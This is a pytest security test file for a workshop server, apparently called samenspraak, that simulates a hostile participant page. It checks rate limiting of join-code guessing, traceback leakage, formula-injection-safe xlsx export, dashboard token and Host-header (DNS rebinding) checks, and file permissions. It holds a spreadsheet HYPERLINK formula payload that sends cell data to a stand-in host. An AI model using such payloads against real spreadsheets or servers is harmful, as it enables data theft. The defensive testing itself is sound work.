"""Someone curious on the venue's network, against a real `samenspraak serve` on loopback.

A hostile page speaks HTTP and the kernel websocket itself (benchmarks/wire.py), so it can
send what no browser page would: wrong codes as fast as it likes, values of the wrong type,
formulas as answers. Another loopback address (127.0.0.2) stands in for another phone.
"""

from __future__ import annotations

import asyncio
import io
import re
import stat
import subprocess
import sys
import time
import urllib.error
import urllib.request
import uuid
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from benchmarks.wire import (
    Arrival,
    KernelChannel,
    Visit,
    WidgetState,
    _load_widgets,
    http_request,
    parse_page,
)

from samenspraak.core.messages import t
from samenspraak.core.records import ADDRESS_JOIN_LIMIT, BROWSER_JOIN_LIMIT
from samenspraak.core.store import Store
from samenspraak.core.urls import join_url
from samenspraak.serve import ServeConfig, start_in_background, stop_group

pytestmark = pytest.mark.timeout(300)

WORKSHOP = "demo"
OTHER_PHONE = "127.0.0.2"
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'


class Served:
    def __init__(self, tmp: Path):
        self.folder = tmp / "nieuw" / "data"  # serve makes this folder itself
        self.config = ServeConfig.on_loopback(
            f"sqlite:///{self.folder / 'results.sqlite'}",
            pool_size=2,
            preheat=(WORKSHOP,),
            expected=3,
            max_per_address=0,
        )
        self.log = tmp / "serve.log"
        with self.log.open("w") as output:
            self.process = start_in_background(self.config, output=output, timeout=180)
        store = Store(self.config.db_url)
        try:
            self.code = store.create_session(WORKSHOP, min_group_size=1).code
        finally:
            store.dispose()

    @property
    def link(self) -> str:
        return join_url(self.config.participant_url, WORKSHOP, self.code)


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    server = Served(tmp_path_factory.mktemp("security"))
    try:
        yield server
    finally:
        stop_group(server.process)


class HostilePage:
    """One page, driven over the kernel websocket; everything the kernel sends is kept."""

    def __init__(self, kernel: KernelChannel, widgets: WidgetState):
        self.kernel, self.widgets = kernel, widgets
        self.received: list[bytes] = []

    def model(self, model_name: str, **wanted: object) -> str:
        found = self.widgets.find(model_name, **wanted)
        assert found, (model_name, wanted)
        return found

    async def update(self, model_id: str, **state: object) -> None:
        await self.kernel.comm(model_id, {"method": "update", "state": state, "buffer_paths": []})

    async def click(self, model_id: str) -> None:
        await self.kernel.comm(model_id, {"method": "custom", "content": {"event": "click"}})

    async def listen(self, seconds: float, until: str | None = None) -> str:
        """Read for up to ``seconds`` (or until a message holds ``until``); return the text."""
        deadline = time.monotonic() + seconds
        while (left := deadline - time.monotonic()) > 0:
            try:
                message = await asyncio.wait_for(self.kernel.receive(), left)
            except TimeoutError:
                break
            self.received.append(repr(message.content).encode())
            if message.msg_type in {"comm_msg", "comm_open"}:
                self.widgets.apply(message)
            if until is not None and until in repr(message.content):
                break
        return b"\n".join(self.received).decode("utf-8", "replace")

    def message(self) -> str:
        """The join panel's message, as text."""
        values = [
            state.get("value", "")
            for _id, state in self.widgets.reachable()
            if 'role="alert"' in str(state.get("value", ""))
            or "ss-joined" in str(state.get("value", ""))
        ]
        return re.sub(r"<[^>]+>", " ", " ".join(values))


async def _open(url: str, source: str | None = None) -> tuple[str, str, list[str]]:
    status, _headers, body = await http_request(url, source=source)
    assert status == 200
    kernel_id, roots = parse_page(body.decode())
    base = url.split("/voila/", maxsplit=1)[0]
    return base, kernel_id, roots


def _run(coroutine):
    return asyncio.run(coroutine)


async def _on_page(url: str, act, source: str | None = None):
    """Open the page (from ``source``), load its widgets, run ``act(page)``."""
    base, kernel_id, roots = await _open(url, source)
    async with KernelChannel.open(base, kernel_id, timeout=60, source=source) as kernel:
        arrival = Arrival(0, started=time.monotonic())
        widgets = await _load_widgets(kernel, roots, arrival, Visit(), time.monotonic() + 60)
        page = HostilePage(kernel, widgets)
        await page.listen(1.0)  # the code arrives once the request is known
        return await act(page)


async def _try_code(page: HostilePage, code: str) -> str:
    field = page.model("TextModel", description=t("join.code"))
    button = page.model("ButtonModel", description=t("join.button"))
    roles = page.widgets.siblings(button)
    role = next(
        r
        for r in roles
        if page.widgets.models[r].get("_model_name") == "ToggleButtonsModel"
        and t("role.professional") in page.widgets.models[r].get("_options_labels", [])
    )
    await page.update(role, index=0)
    await page.update(field, value=code)
    page.received.clear()
    await page.click(button)
    await page.listen(10, until="ss-status")
    return page.message()


def test_guessing_codes_is_slowed_down_and_others_still_get_in(served: Served):
    async def guess(page: HostilePage) -> list[str]:
        tries = range(2, 2 + BROWSER_JOIN_LIMIT.free + 1)
        return [await _try_code(page, f"ZZZZ{n}") for n in tries]

    async def right_code(page: HostilePage) -> str:
        return await _try_code(page, served.code)

    answers = _run(_on_page(served.link, guess))
    assert "werkt niet" in answers[0]
    assert "Wacht" in answers[-1]  # the page itself slows down
    # A guesser who opens page after page (a new browser each time, as this client keeps no
    # cookie) meets the limit of the address ...
    for _ in range(ADDRESS_JOIN_LIMIT.free // BROWSER_JOIN_LIMIT.free):
        _run(_on_page(served.link, guess))
    assert "Wacht" in _run(_on_page(served.link, right_code))
    # ... while another phone in the room joins at once.
    assert "Je doet mee" in _run(_on_page(served.link, right_code, source=OTHER_PHONE))


def test_no_traceback_reaches_the_browser_after_an_error(served: Served):
    async def break_things(page: HostilePage) -> str:
        button = page.model("ButtonModel", description=t("join.button"))
        for model_id, state in list(page.widgets.models.items()):
            if state.get("_model_name") == "ToggleButtonsModel":
                await page.update(model_id, index=999)  # no such option
            if state.get("_model_name") == "TextModel":
                await page.update(model_id, value={"not": "text"})
        await page.kernel.comm(button, {"method": "update", "state": {"nonsense": 1}})
        await page.kernel.comm(str(uuid.uuid4()), {"method": "update", "state": {}})
        await page.click(button)
        return await page.listen(5)

    sent = _run(_on_page(served.link, break_things))
    assert sent  # the kernel answered
    for leak in ("Traceback", "site-packages", ".py", 'File \\"', "/work/", str(Path.home())):
        assert leak not in sent, leak


def test_answers_with_formulas_export_as_text(served: Served, tmp_path: Path):
    async def answer(page: HostilePage) -> str:
        await _try_code(page, served.code)
        await page.listen(10, until="ss-exercise-demo-open")
        form = next(
            model_id
            for model_id, state in page.widgets.models.items()
            if "ss-exercise-demo-open" in (state.get("_dom_classes") or [])
        )
        inside = page.widgets.descendants(form)
        area = next(m for m in inside if page.widgets.models[m]["_model_name"] == "TextareaModel")
        save = next(
            m for m in inside if "ss-save" in (page.widgets.models[m].get("_dom_classes") or [])
        )
        await page.update(area, value=FORMULA)
        await page.click(save)
        return await page.listen(10, until="Opgeslagen")

    _run(_on_page(served.link, answer, source="127.0.0.3"))
    target = tmp_path / "antwoorden.xlsx"
    subprocess.run(
        [
            sys.executable,
            "-m",
            "samenspraak.cli",
            "--db",
            served.config.db_url,
            "export",
            served.code,
            "--format",
            "xlsx",
            "-o",
            str(target),
        ],
        check=True,
        capture_output=True,
    )
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    with zipfile.ZipFile(target) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert not [n for n in sheets if b"<f>" in book.read(n)]
    cells = [
        cell
        for sheet in openpyxl.load_workbook(io.BytesIO(target.read_bytes())).worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]
    assert any(cell.value == FORMULA for cell in cells)  # the trainer reads what was typed
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_the_dashboard_answers_only_the_trainer(served: Served):
    address = served.config.dashboard_address
    token = served.config.dashboard_token

    def status(url: str, headers: dict[str, str]) -> int:
        request = urllib.request.Request(url, headers=headers)  # noqa: S310 - loopback
        try:
            with urllib.request.urlopen(request, timeout=60) as answer:  # noqa: S310
                return answer.status if "login" not in answer.url else 302
        except urllib.error.HTTPError as err:
            return err.code

    with_token = {"Authorization": f"token {token}"}
    assert status(address, with_token) == 200
    assert status(f"{address}draaiboek/demo.html", with_token) == 200
    # Without the token: the login page, never the dashboard or the guide.
    assert status(address, {}) == 302
    assert status(f"{address}?token=wrong", {}) == 302
    assert status(f"{address}draaiboek/demo.html", {}) in {302, 403}
    # A page that rebinds its own name to 127.0.0.1 sends its own Host: refused, token or not.
    evil = f"evil.example:{served.config.dashboard_port}"
    assert status(address, {**with_token, "Host": evil}) == 403
    assert status(f"{address}?token={token}", {"Host": evil}) == 403


def test_files_on_disk_are_private_and_the_log_keeps_no_codes(served: Served):
    database = served.folder / "results.sqlite"
    assert stat.S_IMODE(served.folder.stat().st_mode) == 0o700
    for path in [database, *served.folder.glob("results.sqlite-*")]:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    # Pages were opened with ?code= all through this module, and one that does not exist,
    # which is logged as a warning with its address: the log names no code.
    missing = served.link.replace("demo.ipynb", "bestaat-niet.ipynb")
    with pytest.raises(urllib.error.HTTPError):
        urllib.request.urlopen(missing, timeout=60)  # noqa: S310 - loopback
    time.sleep(0.5)
    log = served.log.read_text()
    assert "bestaat-niet.ipynb" in log
    assert served.code not in log
